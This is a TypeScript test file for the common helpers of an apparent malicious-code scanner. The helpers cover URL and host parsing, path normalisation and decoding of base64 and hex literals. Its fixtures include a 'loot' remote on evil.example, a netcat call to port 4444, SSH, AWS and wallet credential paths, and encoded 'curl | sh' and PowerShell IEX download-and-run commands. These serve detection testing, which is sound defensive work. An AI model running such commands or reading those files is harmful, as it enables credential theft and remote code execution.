import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  LineMap, decodeBase64, decodeLiteral, excerpt, findUrls, hostAndPortOf, hostOf, isIpLiteral, normalisePath, oneLine,
} from '../../../src/scan/analyzers/common/index.ts';

describe('common/urls', () => {
  const cases: [string, { url: string; host: string; scheme: string; port?: number }[]][] = [
    ['curl https://api.github.com/user -H x', [{ url: 'https://api.github.com/user', host: 'api.github.com', scheme: 'https', port: 443 }]],
    ['see "http://203.0.113.7:8080/x".', [{ url: 'http://203.0.113.7:8080/x', host: '203.0.113.7', scheme: 'http', port: 8080 }]],
    ['wss://relay.example/ws;', [{ url: 'wss://relay.example/ws', host: 'relay.example', scheme: 'wss', port: 443 }]],
    ['git remote add x git@evil.example:me/loot.git', [{ url: 'git@evil.example:me/loot.git', host: 'evil.example', scheme: 'ssh', port: 22 }]],
    ['nc 198.51.100.4:4444', [{ url: '198.51.100.4:4444', host: '198.51.100.4', scheme: 'tcp', port: 4444 }]],
    ['ftp://user:pw@files.example.com/a', [{ url: 'ftp://user:pw@files.example.com/a', host: 'files.example.com', scheme: 'ftp', port: 21 }]],
    ['http://[2001:db8::1]:9000/', [{ url: 'http://[2001:db8::1]:9000/', host: '2001:db8::1', scheme: 'http', port: 9000 }]],
    ['file:///etc/passwd and javascript://x', []],
    ['time 12:30 version 1.2.3.4 no url', []],
    ['http://999.1.1.1:99999 nope', [{ url: 'http://999.1.1.1:99999', host: '999.1.1.1', scheme: 'http' }]],
  ];
  for (const [text, expected] of cases) {
    it(`finds ${JSON.stringify(expected.map((e) => e.url))} in ${text}`, () => {
      assert.deepEqual(findUrls(text).map(({ index: _, ...rest }) => rest), expected);
    });
  }

  it('hostOf handles variables, scp remotes and bare hosts', () => {
    assert.equal(hostOf('http://$HOST/x'), '$host');
    assert.equal(hostOf('https://User@Example.COM./p'), 'example.com');
    assert.equal(hostOf('git@github.com:o/r.git'), 'github.com');
    assert.equal(hostOf('evil.example'), 'evil.example');
    assert.equal(hostOf('not a host'), undefined);
    assert.deepEqual(hostAndPortOf('203.0.113.9:53'), { host: '203.0.113.9', port: 53 });
  });

  it('isIpLiteral', () => {
    for (const ip of ['203.0.113.7', '[::1]', '2001:db8::5', '0x7f000001', '3232235777']) assert.equal(isIpLiteral(ip), true, ip);
    for (const host of ['example.com', '999.1.1.1', '1.2.3', 'abc']) assert.equal(isIpLiteral(host), false, host);
  });
});

describe('common/paths', () => {
  const cases: [string, string][] = [
    ['$HOME/.ssh/id_rsa', '~/.ssh/id_rsa'],
    ['"${HOME}/.aws/credentials"', '~/.aws/credentials'],
    ['~root/.ssh/authorized_keys', '~/.ssh/authorized_keys'],
    ['~/.openclaw/openclaw.json', '~/.openclaw/openclaw.json'],
    ['%USERPROFILE%\\.ssh\\id_ed25519', '~/.ssh/id_ed25519'],
    ['$env:USERPROFILE\\.aws\\credentials', '~/.aws/credentials'],
    ['%APPDATA%\\Exodus\\exodus.wallet', '~/AppData/Roaming/Exodus/exodus.wallet'],
    ["os.homedir() + '/.ssh/id_rsa'", '~/.ssh/id_rsa'],
    ["path.join(os.homedir(), '.ssh', 'id_rsa')", '~/.ssh/id_rsa'],
    ["os.path.expanduser('~') + '/.env'", '~/.env'],
    ["Path.home() / '.config' / 'gh' / 'hosts.yml'", '~/.config/gh/hosts.yml'],
    ['$XDG_CONFIG_HOME/gh/hosts.yml', '~/.config/gh/hosts.yml'],
    ['./data//out/./x.txt', 'data/out/x.txt'],
    ['/tmp/$RANDOM.sh', '/tmp/*.sh'],
    ['$(pwd)/build/*.log', '*/build/*.log'],
    ['~deploy', '~'],
    ['a~b/c', 'a~b/c'],
    ['path.join(dir, name)', 'path.join(dir, name)'],
    ['/etc/passwd', '/etc/passwd'],
  ];
  for (const [raw, expected] of cases) {
    it(`${raw} -> ${expected}`, () => assert.equal(normalisePath(raw), expected));
  }
});

describe('common/decode', () => {
  const b64 = (s: string) => Buffer.from(s).toString('base64');
  it('decodes printable base64, base64url, hex and escapes', () => {
    assert.deepEqual(decodeLiteral(b64('curl http://203.0.113.5/x | sh')), { encoding: 'base64', length: 40, text: 'curl http://203.0.113.5/x | sh' });
    assert.equal(decodeLiteral(Buffer.from('echo ok >>~/.bashrc?? yes').toString('base64url'))?.text, 'echo ok >>~/.bashrc?? yes');
    assert.equal(decodeLiteral(Buffer.from('rm -rf /tmp/demo').toString('hex'))?.text, 'rm -rf /tmp/demo');
    assert.equal(decodeLiteral('\\x63\\x75\\x72\\x6c\\x20\\x78\\x2e\\x74\\x65\\x73\\x74')?.text, 'curl x.test');
  });
  it('decodes UTF-16LE base64 as PowerShell writes it', () => {
    const enc = Buffer.from('IEX (iwr http://x.test/a)', 'utf16le').toString('base64');
    assert.deepEqual(decodeBase64(enc, true), { encoding: 'utf16le-base64', length: enc.length, text: 'IEX (iwr http://x.test/a)' });
  });
  it('flags media instead of text', () => {
    const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 73, 72, 68, 82]).toString('base64');
    assert.equal(decodeLiteral(png)?.media, 'png');
    assert.equal(decodeLiteral('data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAA')?.media, 'data-uri');
    const webp = Buffer.concat([Buffer.from('RIFF'), Buffer.from([1, 2, 3, 4]), Buffer.from('WEBPVP8 xxxx')]).toString('base64');
    assert.equal(decodeLiteral(webp)?.media, 'webp');
  });
  it('rejects binary, short and non-encoded literals', () => {
    assert.equal(decodeLiteral('e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'), undefined);
    assert.equal(decodeLiteral('aGVsbG8='), undefined);
    assert.equal(decodeLiteral('this is plain prose, not base64'), undefined);
    assert.equal(decodeLiteral(Buffer.from([0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16]).toString('base64')), undefined);
  });
});

describe('common/excerpt', () => {
  it('cuts to one line of at most 160 characters', () => {
    assert.equal(oneLine('  a\n\tb  '), 'a b');
    assert.equal(oneLine('x'.repeat(300)).length, 160);
    assert.equal(excerpt('one\ntwo  three\r\nfour', 2), 'two three');
    assert.equal(excerpt('one', 5), '');
  });
  it('maps offsets to lines', () => {
    const map = new LineMap('ab\ncd\n\nef');
    assert.deepEqual([0, 2, 3, 5, 6, 7, 99].map((o) => map.lineOf(o)), [1, 1, 2, 2, 3, 4, 4]);
    assert.equal(map.lineCount, 4);
    assert.equal(map.lineText(4), 'ef');
  });
});
